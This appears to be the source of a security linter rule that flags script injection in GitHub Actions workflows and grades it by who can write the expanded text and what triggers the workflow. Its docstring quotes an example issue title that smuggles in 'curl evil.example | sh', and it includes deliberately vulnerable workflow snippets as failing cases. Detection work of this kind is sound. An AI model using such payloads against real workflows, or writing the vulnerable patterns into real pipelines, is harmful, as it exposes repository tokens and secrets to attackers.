"""Text that other people write does not become code."""

from __future__ import annotations

from collections.abc import Iterator

from sp404audit.documents.github.action import Action
from sp404audit.documents.github.code import Code
from sp404audit.documents.github.expression import Embedded
from sp404audit.documents.github.workflow import Workflow
from sp404audit.records import NamedTuple
from sp404audit.results import Fix
from sp404audit.rules.actions.lift import lift_to_variables
from sp404audit.rules.actions.reach import outside_trigger, privileged_trigger
from sp404audit.rules.actions.untrusted import Scope, Taint, Trail
from sp404audit.rules.registry import Verdict, Verdicts, Where, fail, passed, rule, unproven

__all__ = ["no_script_injection"]

_WRITERS = {
    "anyone": "which anyone can write",
    "contributors": "which whoever's commit is merged can write",
    "members": "which people with access to the repository write",
    "callers": "which whoever starts or calls this can choose",
    "refs": "a name that whoever can push can choose",
}
_EVENTS_OF_REPOSITORY = frozenset({"check_run", "check_suite", "merge_group", "status", "workflow_call"})


@rule(
    "actions/no-script-injection",
    severity="high",
    equivalents=[
        "zizmor:template-injection",
        "actionlint:expression",
        "poutine:injection",
        "octoscan:expression-injection",
        "semgrep:yaml.github-actions.security.run-shell-injection.run-shell-injection",
        "semgrep:yaml.github-actions.security.github-script-injection.github-script-injection",
        "checkov:CKV_GHA_2",
        "kics:Run Block Injection",
        "kics:Script Block Injection",
        "scorecard:Dangerous-Workflow",
    ],
    cwe=[78, 94],
    precision="high",
)
def no_script_injection(code: Code, *, include_refs: bool = False) -> Verdicts:
    """Nothing that other people write is expanded inside code.

    GitHub replaces `${{ … }}` in a command before any shell reads it. A title such as `"; curl evil.example | sh; "`
    is then no longer a title but a command, which runs with the job's token and secrets. The same holds for the code
    that some actions take as an input, for a container's options and for `shell:`.

    How grave it is depends on who writes the text and on what starts the workflow: critical where anyone can, with the
    repository's own rights; medium for inputs of a dispatch, a call or a composite action.
    Comparisons, and functions that answer yes or no, let no text through; booleans, numbers and choices among inputs
    hold no code.

    `include_refs` reports the name of the branch or tag that the workflow runs for too, where no filter fixes it:
    whoever can push that can also push a changed workflow, so that it is low in severity.

    Fix: hand the value over in a variable (`env:`) and use that variable in the code, as the language there spells it
    (`"$TITLE"`, `$env:TITLE`, `process.env.TITLE`).

    Passes:
        on: issues
        permissions: {}
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "new issue, $TITLE, number ${{ github.event.issue.number }}"
                env:
                  TITLE: ${{ github.event.issue.title }}

    Fails:
        on: issues
        permissions: {}
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "new issue, ${{ github.event.issue.title }}"

    Fails (through a variable, and in a script):
        on: pull_request_target
        permissions: {}
        jobs:
          check:
            runs-on: ubuntu-24.04
            env:
              BRANCH: origin/${{ github.head_ref }}
            steps:
              - run: git diff ${{ env.BRANCH }}
              - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                with:
                  script: core.info(`${{ github.event.pull_request.body }}`)

    Fails (include_refs=true):
        on: push
        permissions: {}
        jobs:
          build:
            runs-on: ubuntu-24.04
            steps:
              - run: make build VERSION=${{ github.ref_name }}

    Unproven:
        on: pull_request_target
        permissions: {}
        jobs:
          check:
            runs-on: ubuntu-24.04
            steps:
              - id: look
                uses: octo-org/look@8f4b7f84864484a7bf31766abe9204da3cbe65b3
              - run: echo ${{ steps.look.outputs.found }}

    Passes (a choice, a comparison and a literal):
        on:
          workflow_dispatch:
            inputs:
              level:
                type: choice
                options: [patch, minor]
        permissions: {}
        jobs:
          bump:
            runs-on: ubuntu-24.04
            steps:
              - run: |
                  bump ${{ inputs.level }}
                  echo ${{ contains(github.event.head_commit.message, '[dry]') && '--dry-run' || '' }}
    """
    step = code.step
    if (code.job is not None and code.job.is_never_run) or (step is not None and step.is_never_run):
        return
    trail = Trail()
    found = list(_injections(code, trail, include_refs)) if "${{" in code.scalar.value else []
    for injection in found:
        yield _verdict(code, injection)
    if not found and trail.lookups_left < 0:
        yield unproven(code, "its values refer to one another too often to be followed")
    elif not found and trail.unknown and _starts_outside(code):
        name, maker = trail.unknown[0]
        yield unproven(code, f"expands '{name[:120]}', which '{maker[:120]}' makes: who can write it is not known")
    elif not found:
        yield passed(code, "nothing that other people write is expanded here")


class _Injection(NamedTuple):
    """An expression in code, and the gravest text that it lets in."""

    embedded: Embedded
    taint: Taint
    fix: Fix | None


def _starts_outside(code: Code) -> bool:
    """Whether people from outside can start what the code belongs to."""
    return code.job is not None and outside_trigger(code.job.workflow) is not None


def _injections(code: Code, trail: Trail, include_refs: bool) -> Iterator[_Injection]:
    owner = _owner(code)
    tainted: list[tuple[Embedded, Taint]] = []
    for embedded in code.expressions:
        if embedded.tree is None:
            continue
        taint = Scope(owner, code.job, code.step, trail).taint(embedded.tree)
        if taint is not None and (include_refs or taint.writer != "refs"):
            tainted.append((embedded, taint))
    # One fix mends the whole text: each expression needs a variable, and two fixes would both add `env:`.
    fix = lift_to_variables(code, [embedded for embedded, _ in tainted]) if tainted else None
    for number, (embedded, taint) in enumerate(tainted):
        yield _Injection(embedded, taint, fix if number == 0 else None)


def _owner(code: Code) -> Workflow | Action:
    if code.job is not None:
        return code.job.workflow
    assert code.step is not None  # code without a job is that of an action's step
    assert code.step.action is not None
    return code.step.action


def _verdict(code: Code, injection: _Injection) -> Verdict:
    embedded, taint, fix = injection
    region = code.region_of(embedded.start, embedded.end)
    severity, related = _severity(taint, _owner(code))
    what = "the command" if code.what == "run" else f"'{code.what}'"
    where = code.step.label if code.step is not None else code.job.label if code.job is not None else ""
    message = (
        f"{what} of {where} expands '{taint.source[:120]}', {_WRITERS[taint.writer]}, as code; "
        "hand it over in a variable (env)"
    )
    return fail(region, message, severity=severity, fix=fix, related=related)


def _severity(taint: Taint, owner: Workflow | Action) -> tuple[str, list[tuple[Where, str]]]:
    """Grade by who writes the text and by what starts the workflow; name the event that lets people from outside in."""
    if taint.writer != "anyone":
        return ("low" if taint.writer == "refs" else "medium"), []
    if isinstance(owner, Action):
        return "high", []
    trigger = outside_trigger(owner)
    if trigger is not None:
        if privileged_trigger(owner) is not None:
            return "critical", [(trigger, f"'{trigger.name}' runs it with the repository's own rights")]
        return "high", [(trigger, f"'{trigger.name}' lets people from outside start it")]
    if "workflow_call" in owner.triggers:
        return "high", []
    # Of all the others, none carries such a text from outside today.
    return ("medium" if _EVENTS_OF_REPOSITORY & owner.triggers.keys() else "low"), []
